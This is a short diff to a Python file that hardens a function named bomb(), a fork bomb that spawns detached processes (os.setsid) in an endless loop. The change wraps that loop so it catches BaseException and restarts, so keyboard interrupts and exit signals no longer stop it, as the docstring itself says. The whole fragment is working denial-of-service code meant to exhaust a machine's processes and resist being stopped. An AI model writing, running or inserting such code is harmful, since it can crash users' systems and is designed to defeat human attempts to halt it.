@@ -69,9 +69,17 @@ def bomb() -> None:
     """Processes that make processes, until nobody lets them, and then again; an interrupt ends nothing."""
     while True:
         try:
+            _fork_for_ever()
+        except BaseException:
+            pass
+
+
+def _fork_for_ever() -> None:
+    while True:
+        try:
             if os.fork() == 0:
                 os.setsid()
-        except BaseException:
+        except OSError:
             pass
 
 
